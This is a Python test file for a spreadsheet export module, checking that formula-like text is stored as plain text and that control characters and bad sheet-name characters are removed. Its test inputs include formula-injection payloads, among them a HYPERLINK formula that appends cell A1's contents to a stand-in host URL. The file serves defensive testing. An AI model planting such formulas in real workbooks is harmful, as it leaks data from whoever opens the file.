"""Exports as workbooks (workflow/xlsx.py): what was recorded comes out as the same text, never as something the
spreadsheet runs."""

from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook

from workflow import xlsx

TYPED = ['=HYPERLINK("http://example.invalid/?"&A1,"点击查看")', "=1+1", "+1+2", "-3", "@SUM(A1)", "陈某某"]


def test_a_text_that_looks_like_a_formula_is_written_as_text() -> None:
    data = xlsx.workbook("导出", [["标题"], ["当事人"], *[[t] for t in TYPED]])
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet  # no cell holds a formula
    book = load_workbook(io.BytesIO(data))
    cells = [row[0] for row in book.active.iter_rows(min_row=3)]
    assert [c.value for c in cells] == TYPED  # the exact text, nothing put in front of it
    assert {c.data_type for c in cells} == {"s"}


def test_numbers_stay_numbers_and_control_characters_are_dropped() -> None:
    data = xlsx.workbook("a[b]:c", [["标题"], ["件数", "说明"], [12, "第一行\x07"]])
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["a b  c"]
    assert [c.value for c in next(book.active.iter_rows(min_row=3))] == [12, "第一行"]
